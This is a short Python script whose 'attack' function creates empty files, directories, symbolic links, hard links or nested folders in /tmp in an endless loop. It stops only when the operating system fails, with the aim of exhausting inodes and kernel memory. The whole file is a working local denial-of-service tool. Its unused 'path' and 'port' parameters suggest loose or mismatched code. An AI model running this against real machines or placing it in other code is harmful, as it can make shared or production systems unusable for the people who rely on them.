"""Makes empty files, folders and links for ever: none takes a byte, each takes the kernel's memory."""

import itertools
import os

MAKERS = {
    "files": lambda name: os.close(os.open(name, os.O_CREAT)),
    "folders": os.mkdir,
    "links": lambda name: os.symlink("x", name),
    "hard links": lambda name: os.link("first", name),
    "nested folders": lambda name: (os.mkdir("d"), os.chdir("d")),
}


def attack(path, port, kind="files"):
    os.chdir("/tmp")
    open("first", "w").close()
    for count in itertools.count():
        try:
            MAKERS[kind](f"n{count}")
        except OSError as error:
            return [count, str(error)]
